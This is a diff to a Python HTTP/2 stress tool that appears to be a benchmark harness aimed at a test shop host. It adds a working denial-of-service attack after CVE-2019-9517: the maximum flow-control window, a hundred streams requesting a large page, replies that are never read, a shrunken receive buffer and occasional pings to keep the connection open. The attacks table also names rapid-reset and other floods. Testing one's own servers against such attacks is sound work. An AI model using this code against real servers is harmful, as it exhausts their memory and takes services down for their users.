@@ -10,7 +10,9 @@ import asyncio
 import ipaddress
 import itertools
 import logging
+import math
 import signal
+import socket
 import struct
 
 import h2.config
@@ -19,12 +21,16 @@ from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFra
 from hyperframe.frame import SettingsFrame, WindowUpdateFrame
 
 HEAD = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "shop.test")]
+# A page of 200 KiB at the shop of `plimsoll-bench siege`.
+LARGE = [(name, "/large" if name == ":path" else value) for name, value in HEAD]
+# Streams that a server allows at once by custom, and the widest window (RFC 9113, sections 6.5.2 and 6.9.1).
+STREAMS, WINDOW_MAX = 100, 2**31 - 1
 # A frame's length, kind, flags and stream (RFC 9113, section 4.1).
 FRAME_HEADER = struct.Struct(">HBBBL")
 
 
-def request(connection, stream, ends=True):
-    frame = HeadersFrame(stream, data=connection.encoder.encode(HEAD))
+def request(connection, stream, ends=True, head=HEAD):
+    frame = HeadersFrame(stream, data=connection.encoder.encode(head))
     frame.flags.add("END_HEADERS")
     if ends:
         frame.flags.add("END_STREAM")
@@ -69,6 +75,17 @@ def empty_data(connection):
         yield DataFrame(1, data=b"").serialize()
 
 
+def unread(connection):
+    """CVE-2019-9517: windows as wide as can be, large answers, and nobody who reads them."""
+    yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: WINDOW_MAX}).serialize()
+    yield WindowUpdateFrame(0, window_increment=WINDOW_MAX - 65_535).serialize()
+    for number in range(STREAMS):
+        yield request(connection, 2 * number + 1, head=LARGE)
+    # Who sends nothing does not learn that the connection was ended; now and then is within any allowance.
+    for turn in itertools.count(1):
+        yield PingFrame(0, opaque_data=b"floodpls").serialize() if turn % 1_000 == 0 else b""
+
+
 ATTACKS = {
     "rapid-reset": rapid_reset,
     "made-you-reset": made_you_reset,
@@ -76,6 +93,7 @@ ATTACKS = {
     "settings": settings,
     "ping": ping,
     "empty-data": empty_data,
+    "unread": unread,
 }
 
 
@@ -86,11 +104,22 @@ async def read_all(reader):
 
 async def attack_once(frames, host, port, per_second):
     """One connection, until it is ended; whether it was."""
-    reader, writer = await asyncio.open_connection(host, port)
+    reads = frames is not unread
+    # What nobody reads stays with the server, and not in buffers of ours.
+    peer = socket.socket()
+    if not reads:
+        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
+    peer.setblocking(False)
+    try:
+        await asyncio.get_running_loop().sock_connect(peer, (host, port))
+    except BaseException:
+        peer.close()
+        raise
+    reader, writer = await asyncio.open_connection(sock=peer, limit=65_536 if reads else 1)
     connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
     connection.initiate_connection()
     writer.write(connection.data_to_send())
-    reading = asyncio.ensure_future(read_all(reader))
+    reading = asyncio.ensure_future(read_all(reader) if reads else asyncio.sleep(math.inf))
     try:
         # Ten bursts a second: a sleep for each frame would be the attacker's flood.
         burst = max(1, per_second // 10)
